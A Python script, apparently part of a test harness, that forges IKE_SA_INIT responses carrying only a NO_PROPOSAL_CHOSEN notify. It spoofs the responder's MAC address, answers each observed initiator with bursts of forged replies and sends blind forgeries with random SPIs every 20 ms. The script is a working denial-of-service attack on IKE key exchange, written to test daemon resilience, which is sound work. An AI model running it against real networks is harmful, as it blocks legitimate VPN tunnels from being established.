#!/usr/bin/python3
"""Forges IKE_SA_INIT responses carrying only a NO_PROPOSAL_CHOSEN notify (RFC 7296 2.21.1 attack).

Runs on one end of the wire (a raw AF_PACKET socket, the in-band EtherType) and plays two
attackers at once:
  on-path: it watches the wire for IKE_SA_INIT requests and answers each new initiator SPI at
           once with a burst of forged 36-octet responses, then one every 100 ms for 3 s;
  blind:   every 20 ms it sends one with a random SPI.
Frames claim to come from --spoof-mac (the real responder's wire MAC). The socket bypasses the
qdisc so nothing on the host delays the forgeries. On SIGTERM/SIGINT it writes its counts as
JSON to --report: {"inits_seen", "on_path_sent", "blind_sent", "spis"}.

Usage: forge_init_notify.py --iface IF --spoof-mac MAC [--ethertype 0x88b5] --ready FILE --report FILE
"""
import argparse
import json
import os
import select
import signal
import socket
import struct
import time

NO_PROPOSAL_CHOSEN = 14
IKE_SA_INIT = 34
KX_DESTINATION = bytes.fromhex("0180c2000003")  # the daemons' in-band destination address
SOL_PACKET = 263          # <linux/socket.h>; not exported by the socket module
PACKET_QDISC_BYPASS = 20
BURST = 6
FOLLOW_UP_S = 3.0
FOLLOW_UP_EVERY_S = 0.1
BLIND_EVERY_S = 0.02


def forged_answer(spi_i: bytes) -> bytes:
    """IKE header (R flag, message ID 0, SPIr 0) + one Notify payload: 36 octets."""
    notify = struct.pack(">BBHBBH", 0, 0, 8, 0, 0, NO_PROPOSAL_CHOSEN)
    header = spi_i + bytes(8) + struct.pack(">BBBBII", 41, 0x20, IKE_SA_INIT, 0x20, 0, 28 + len(notify))
    return header + notify


def init_request_spi(frame: bytes, ethertype: int):
    """The initiator SPI of an IKE_SA_INIT request in an in-band frame, else None."""
    if len(frame) < 14 + 28 or struct.unpack_from(">H", frame, 12)[0] != ethertype:
        return None
    ike = frame[14:]
    spi_i, spi_r = ike[0:8], ike[8:16]
    exchange, flags = ike[18], ike[19]
    if exchange != IKE_SA_INIT or flags & 0x20 or not flags & 0x08 or spi_r != bytes(8):
        return None
    return spi_i


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--spoof-mac", required=True)
    ap.add_argument("--ethertype", type=lambda s: int(s, 0), default=0x88B5)
    ap.add_argument("--ready", required=True)
    ap.add_argument("--report", required=True)
    args = ap.parse_args()

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(args.ethertype))
    s.bind((args.iface, 0))
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    src = bytes.fromhex(args.spoof_mac.replace(":", ""))
    eth = KX_DESTINATION + src + struct.pack(">H", args.ethertype)

    counts = {"inits_seen": 0, "on_path_sent": 0, "blind_sent": 0, "spis": []}
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    follow = {}  # spi -> (until, next send)
    next_blind = time.monotonic()
    open(args.ready, "w").write("ready\n")
    while not stop:
        now = time.monotonic()
        wait = max(0.0, min([next_blind] + [n for _, n in follow.values()]) - now)
        try:
            readable, _, _ = select.select([s], [], [], wait)
        except InterruptedError:
            continue
        if readable:
            frame, addr = s.recvfrom(65535)
            spi = init_request_spi(frame, args.ethertype) if addr[2] != socket.PACKET_OUTGOING else None
            if spi is not None:
                counts["inits_seen"] += 1
                if spi not in follow:
                    counts["spis"].append(spi.hex())
                    for _ in range(BURST):
                        s.send(eth + forged_answer(spi))
                        counts["on_path_sent"] += 1
                    follow[spi] = (time.monotonic() + FOLLOW_UP_S, time.monotonic() + FOLLOW_UP_EVERY_S)
        now = time.monotonic()
        for spi, (until, nxt) in list(follow.items()):
            if now >= nxt and now < until:
                s.send(eth + forged_answer(spi))
                counts["on_path_sent"] += 1
                follow[spi] = (until, now + FOLLOW_UP_EVERY_S)
            elif now >= until:
                follow[spi] = (until, float("inf"))
        if now >= next_blind:
            s.send(eth + forged_answer(os.urandom(8)))
            counts["blind_sent"] += 1
            next_blind = now + BLIND_EVERY_S
    json.dump(counts, open(args.report, "w"))


if __name__ == "__main__":
    main()
